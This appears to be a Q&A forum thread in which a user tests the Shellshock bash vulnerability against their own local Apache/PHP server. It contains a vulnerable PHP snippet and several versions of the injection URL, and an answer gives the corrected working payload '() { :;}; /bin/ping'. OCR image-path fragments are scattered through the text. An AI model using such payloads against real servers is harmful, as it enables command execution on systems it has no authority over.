I have been trying to test shellshock vulnerability on PHP similar to this answer. I am running Apache server with PHP running as mod_php. The PHP version is 5.3.10.

I have a phpfile (phptest.php):


  function getLang()
    if (isset($_GET["lang"]) && !empty($_GET["lang"]))
      $lang = $_GET["lang"];
    return $lang;
  $language = getLang();

  system("env | grep LANGUAGE");


I tried to access the page via the browser as follows:

localhost/phptest.php?lang=(){:;}; /bin/ping http://localhostIn the linked question, the wget is to the dev's IP, but I just decided to do a ping to see I can test it.

The browser shows the output as follows:

LANGUAGE=(){:;}; /bin/ping http://localhost

I tried to monitor the ping using the following (from this question):

 sudo tcpdump -ilo icmp and icmp[icmptype]=icmp-echo

I didn't see any request. Can someone tell what do I need correct in my test ?

  • Try ping instead. – Aatif Shahdad Oct 10 '15 at 11:57

Asuming that this injection basicly works:

localhost/phptest.php?lang=(){:;}; /bin/ping http://localhost

Your problem is related to the command you try to inject. Ping accepts a hostname as a parameter. But you injected http://localhost as a parameter which is a url and cant be accepted by the ping command. It must be ping localhost instead of ping http://localhost.

  • Nope it didn't work. I will check the injection again. – Jake Oct 12 '15 at 18:20I figured out the problem. Changing to /bin/ping did help, but there was another subtle change to be made.

There needs tobe one space between ) & {, and another space between { & :. The revised request was:

localhost/phptest.php?lang=() { :;}; /bin/ping

Source for answer was this link.

Your Answer

By clicking “Post Your Answer”, you agree to our terms of service, privacy policy and cookie policy

Not the answer you're looking for? Browse otherquestions tagged or ask your own question.